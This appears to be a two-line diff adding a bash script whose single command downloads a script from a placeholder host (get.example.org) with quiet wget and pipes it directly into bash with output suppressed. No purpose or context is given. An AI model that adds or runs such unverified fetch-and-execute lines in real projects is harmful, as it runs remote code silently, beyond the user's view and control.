@@ -1,0 +1,2 @@
+#!/bin/bash
+bash <(wget -qO- https://get.example.org/report.sh) --quiet
